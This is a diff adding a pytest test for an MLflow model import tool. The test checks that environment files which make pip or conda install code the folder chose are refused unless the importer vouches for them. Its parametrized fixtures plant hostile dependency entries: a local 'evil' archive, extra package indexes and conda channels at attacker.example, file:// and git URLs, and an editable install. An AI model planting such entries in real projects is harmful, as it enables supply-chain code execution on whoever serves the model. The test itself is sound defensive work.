@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import contextlib
 import os
+import re
 import shutil
 import signal
 import sqlite3
@@ -294,3 +295,45 @@ def test_a_version_folder_that_cannot_be_copied_safely_is_refused_before_the_cop
     with _within(60), pytest.raises(BadInput, match=f"version 2: .*{reason}"):
         populated.import_mlflow(dana, logged.uri)
     assert head(populated) == before and populated.models(dana) == []
+
+
+def _append(name: str, line: str) -> Any:  # noqa: ANN401
+    def plant(where: Path) -> None:
+        with (where / name).open("a", encoding="utf-8") as handle:
+            handle.write("\n" + line + "\n")
+    return plant
+
+
+def _edit_yaml(name: str, change: Any) -> Any:  # noqa: ANN401
+    def plant(where: Path) -> None:
+        spec = yaml.safe_load((where / name).read_text())
+        change(spec)
+        (where / name).write_text(yaml.safe_dump(spec))
+    return plant
+
+
+@pytest.mark.parametrize(("plant", "entry"), [
+    (_append("requirements.txt", "./evil-0.1.tar.gz"), "./evil-0.1.tar.gz"),
+    (_append("requirements.txt", "evil-0.1.tar.gz  # looks like a name"), "evil-0.1.tar.gz"),
+    (_append("requirements.txt", "--extra-index-url https://attacker.example/simple"), "--extra-index-url"),
+    (_append("requirements.txt", "helper @ file:///srv/helper"), "helper @ file:///srv/helper"),
+    (_edit_yaml("python_env.yaml", lambda s: s["dependencies"].append("-e .")), "-e ."),
+    (_edit_yaml("conda.yaml", lambda s: s["dependencies"][-1]["pip"].append("git+https://x.example/y")),
+     "git+https://x.example/y"),
+    (_edit_yaml("conda.yaml", lambda s: s["channels"].append("https://attacker.example/conda")),
+     "https://attacker.example/conda"),
+])
+def test_environment_files_that_install_the_folders_own_code_need_the_importers_trust(
+        populated: Countersign, logged: MlflowStore, plant: Any, entry: str) -> None:  # noqa: ANN401
+    """``mlflow models serve`` pip-installs requirements.txt with the model folder as working directory: an archive
+    in the folder, a URL, another index or an editable path runs code the folder chose (a setup.py)."""
+    plant(folder(logged, "2"))
+    (folder(logged, "2") / "evil-0.1.tar.gz").write_bytes(b"not really an sdist")
+    dana = login(populated, "dana")
+    before = head(populated)
+    with pytest.raises(BadInput, match=r"version 2: MLflow runs code from it when serving it .*installs "
+                                       + re.escape(repr(entry)[:-1])):
+        populated.import_mlflow(dana, logged.uri)
+    assert head(populated) == before
+    result = populated.import_mlflow(dana, logged.uri, trust_pickle=True)  # vouched for, recorded
+    assert [i["version"] for i in result["imported"]] == ["1", "2"]
